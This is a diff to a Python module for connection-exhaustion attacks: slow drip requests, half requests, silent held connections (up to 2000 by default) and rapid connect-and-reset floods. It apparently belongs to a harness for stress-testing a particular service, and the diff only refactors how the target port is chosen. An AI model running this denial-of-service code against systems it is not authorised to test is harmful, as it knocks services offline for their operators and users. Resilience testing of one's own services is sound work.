@@ -1,5 +1,5 @@
 """Connections that cost the attacker nothing: silent ones, half requests, a byte a second, and ones that are closed at
-once. They go to the pages' port or to a relay worker's."""
+once. They go to the pages' ports or to a relay worker's."""
 
 import asyncio
 import socket
@@ -57,11 +57,11 @@ async def hold(
     drip: str = "",
     every: float = 1.0,
     connections: int = 2000,
-    relay: bool = False,
+    at: str = "http",
     read: bool = True,
 ) -> list[Worker]:
     """Hold as many connections as the service lets; `first` opens each, `drip` is sent a byte at a time."""
-    place = target.relay if relay else target.http
+    place = target.place(at)
     start, more = (target.filled(text).replace("\n", "\r\n").encode("latin-1") for text in (first, drip))
     return [partial(_hold, target, place, start, more, every, read)] * connections
 
@@ -86,9 +86,9 @@ async def _knock(target: Target, place: tuple[str, int], first: bytes, pace: Pac
 
 
 async def knock(
-    target: Target, first: str = "", connections: int = 50, rate: float | None = None, relay: bool = False
+    target: Target, first: str = "", connections: int = 50, rate: float | None = None, at: str = "http"
 ) -> list[Worker]:
     """Open connections and reset them at once, as many a second as there can be."""
-    place = target.relay if relay else target.http
+    place = target.place(at)
     start = target.filled(first).replace("\n", "\r\n").encode()
     return [partial(_knock, target, place, start, Pace(rate))] * connections
